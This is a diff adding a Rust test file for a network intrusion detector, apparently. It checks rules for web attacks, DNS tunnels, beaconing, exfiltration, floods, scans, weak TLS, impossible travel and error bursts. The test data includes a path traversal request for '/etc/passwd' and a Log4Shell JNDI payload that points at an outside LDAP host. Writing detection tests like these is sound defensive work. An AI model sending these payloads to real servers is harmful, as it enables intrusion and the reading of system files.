@@ -1,0 +1,177 @@
+//! One attack for each detector, and what is just short of it.
+
+use super::{SECOND, judge, rules};
+use crate::model::{Dataset, Event, Field, Origin, Outcome, Transport, Type, Value};
+
+const fn dataset(name: &'static str, transaction: bool) -> Dataset {
+    Dataset { name, category: &["network"], types: &["info"], protocol: None, transaction, doc: "" }
+}
+static FLOW: Dataset = dataset("flow", false);
+static HTTP: Dataset = dataset("http", true);
+static DNS: Dataset = dataset("dns", true);
+static TLS: Dataset = dataset("tls", true);
+static APP: Dataset = dataset("pino", false);
+static VPC: Dataset = dataset("aws.vpcflow", false);
+
+/// An event with these fields; their declarations live as long as the test program.
+fn event(
+    set: &'static Dataset,
+    n: u64,
+    second: i64,
+    fields: &[(&'static str, Value<'static>)],
+) -> Event<'static> {
+    let mut event = Event::new(set, Origin { source: 0, record: n, offset: n }, second * SECOND);
+    event.source.ip = Some("203.0.113.9".parse().unwrap());
+    event.destination.ip = Some("192.0.2.1".parse().unwrap());
+    event.destination.port = Some(443);
+    event.transport = Some(Transport::Tcp);
+    for (name, value) in fields {
+        let field: &'static Field = Box::leak(Box::new(Field { name, ty: Type::Keyword, doc: "" }));
+        event.push(field, value.clone());
+    }
+    event
+}
+
+fn request(n: u64, target: &str, status: i64) -> Event<'static> {
+    let fields = [("url.original", target.to_owned().into()), ("http.response.status_code", status.into())];
+    event(&HTTP, n, n.cast_signed(), &fields)
+}
+
+fn many(count: u64, one: impl Fn(u64) -> Event<'static>) -> Vec<Event<'static>> {
+    (0..count).map(one).collect()
+}
+
+#[test]
+fn attacks_on_the_web() {
+    let traversal = |count| many(count, |n| request(n, "/a?f=../../../etc/passwd", 400));
+    assert!(rules(&traversal(2)).is_empty());
+    assert_eq!(rules(&traversal(3)), ["web.traversal"]);
+    let worked = judge(&[&[request(0, "/a?f=../../../etc/passwd", 200)]]);
+    assert_eq!((worked[0].rule, worked[0].severity.name()), ("web.traversal", "high"));
+    assert_eq!(rules(&[request(0, "/?x=${jndi:ldap://192.0.2.7/a}", 404)]), ["web.log4shell"]);
+    assert_eq!(rules(&many(40, |n| request(n, &format!("/hidden{n}"), 404))), ["web.hidden_paths"]);
+    assert!(rules(&many(400, |n| request(n, &format!("/missing{}.png", n % 10), 404))).is_empty());
+    assert_eq!(rules(&many(10, |n| request(n, "/admin", 401))), ["web.refused"]);
+    assert!(rules(&many(500, |n| request(n, "/index.html", 200))).is_empty());
+}
+
+fn question(n: u64, name: &str, code: &'static str) -> Event<'static> {
+    let domain: Vec<&str> = name.rsplitn(3, '.').collect();
+    let domain = format!("{}.{}", domain[1], domain[0]);
+    let fields = [
+        ("dns.question.name", name.to_owned().into()),
+        ("dns.question.type", "A".into()),
+        ("dns.question.registered_domain", domain.into()),
+        ("dns.response_code", code.into()),
+    ];
+    event(&DNS, n, n.cast_signed(), &fields)
+}
+
+#[test]
+fn tunnels_and_made_up_names() {
+    let code = |n: u64| format!("{:032x}{:016x}", u128::from(n).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c), !n);
+    let tunnel = |count| many(count, |n| question(n, &format!("{}.t.example", code(n)), "NOERROR"));
+    assert!(rules(&tunnel(59)).is_empty());
+    assert_eq!(rules(&tunnel(60)), ["dns.tunnel"]);
+    let cached = many(500, |n| question(n, &format!("{}.cdn.example", code(n % 70)), "NOERROR"));
+    assert!(rules(&cached).is_empty(), "the same names again and again are no tunnel");
+    let generated = many(100, |n| question(n, &format!("www.{}.example", &code(n)[20..32]), "NXDOMAIN"));
+    assert_eq!(rules(&generated), ["dns.generated_names"]);
+    let storm = many(100, |n| question(n, &format!("host{n}.corp.example"), "NXDOMAIN"));
+    assert_eq!(rules(&storm), ["dns.nxdomain_storm"]);
+}
+
+fn call(n: u64, second: i64, (sent, received): (u64, u64)) -> Event<'static> {
+    let fields = [("network.direction", "outbound".into()), ("netlog.flow.state", "closed".into())];
+    let mut event = event(&FLOW, n, second, &fields);
+    event.source.packets = Some(10);
+    event.source.bytes = Some(sent);
+    event.destination.bytes = Some(received);
+    event
+}
+
+#[test]
+fn calls_to_the_outside() {
+    let regular = |every: i64| move |n: u64| call(n, n.cast_signed() * every, (500, 900));
+    let found = judge(&[&many(30, regular(60))]);
+    assert_eq!(found[0].rule, "outbound.beacon");
+    assert!(found[0].title.contains("about every 60 s: score"), "{}", found[0].title);
+    assert_eq!(rules(&many(11, regular(60))), [""; 0], "too few");
+    assert!(rules(&many(300, regular(1))).is_empty(), "too close: a download in parts");
+    // Gaps that double each time, and start again.
+    let human = many(60, |n| call(n, (n.cast_signed() / 6) * 4000 + (1 << (n % 6)) * 60, (500 + n * n, 900)));
+    assert!(rules(&human).is_empty());
+    let carried = |sent, received| rules(&[call(0, 0, (sent, received))]);
+    assert_eq!(carried(200 << 20, 1 << 20), ["outbound.exfiltration"]);
+    assert!(carried(200 << 20, 50 << 20).is_empty());
+    let mut long = call(0, 0, (1, 1));
+    long.end = Some(9 * 3600 * SECOND);
+    assert_eq!(rules(&[long]), ["outbound.long_connection"]);
+}
+
+#[test]
+fn floods_and_rejected_scans() {
+    let half = |n: u64| {
+        let mut event = event(&FLOW, n, 0, &[("netlog.flow.state", "half_open".into())]);
+        event.source.ip = Some(std::net::Ipv4Addr::from(0xc633_6400 + (n as u32 % 250)).into());
+        event
+    };
+    assert_eq!(rules(&many(1000, half)), ["flood.syn"]);
+    let rejected = |n: u64| {
+        let mut event = event(&VPC, n, 0, &[("aws.vpcflow.action", "REJECT".into())]);
+        event.destination.port = Some(n as u16 + 1);
+        event
+    };
+    assert_eq!(rules(&many(25, rejected)), ["scan.vertical"]);
+}
+
+#[test]
+fn weak_protection() {
+    let fields = [
+        ("tls.version", Value::from("1.0")),
+        ("tls.version_protocol", "tls".into()),
+        ("tls.established", true.into()),
+        ("tls.server.certificate_issues", Value::texts(["expired", "self_signed"].into_iter())),
+    ];
+    let found = rules(&[event(&TLS, 0, 0, &fields)]);
+    assert_eq!(found, ["tls.certificate", "tls.old_version", "tls.certificate"]);
+    let basic = [("netlog.http.request.authorization", Value::from("Basic")), ("user.name", "bob".into())];
+    assert_eq!(rules(&[event(&HTTP, 0, 0, &basic)]), ["cleartext.credentials"]);
+}
+
+fn login(n: u64, hour: i64, country: &'static str, (lat, lon): (f64, f64)) -> Event<'static> {
+    let fields = [
+        ("event.category", "authentication".into()),
+        ("user.name", "bob".into()),
+        ("source.geo.country_iso_code", country.into()),
+        ("source.geo.location", Value::Geo(lat, lon)),
+    ];
+    let mut event = event(&APP, n, hour * 3600, &fields);
+    event.outcome = Outcome::Success;
+    event
+}
+
+#[test]
+fn travellers() {
+    let (germany, japan) = ((51.1, 10.4), (36.2, 138.2));
+    let fast = [login(0, 0, "DE", germany), login(1, 2, "JP", japan)];
+    assert_eq!(rules(&fast), ["travel.impossible"]);
+    assert!(rules(&[login(0, 0, "DE", germany), login(1, 14, "JP", japan)]).is_empty());
+    assert!(rules(&[login(0, 0, "DE", germany), login(1, 0, "NL", (52.1, 5.3))]).is_empty(), "neighbours");
+    let mut known = many(5, |n| login(n, n.cast_signed() * 24, "DE", germany));
+    known.push(login(9, 400, "JP", japan));
+    assert_eq!(rules(&known), ["travel.new_country"]);
+}
+
+#[test]
+fn services_in_trouble() {
+    let line = |level: &'static str| {
+        move |n: u64| {
+            event(&APP, n, n.cast_signed(), &[("log.level", level.into()), ("service.name", "shop".into())])
+        }
+    };
+    assert!(rules(&many(49, line("error"))).is_empty());
+    assert_eq!(rules(&many(50, line("error"))), ["errors.burst"]);
+    assert_eq!(rules(&many(1, line("FATAL"))), ["errors.fatal"]);
+    assert!(rules(&many(500, line("info"))).is_empty());
+}
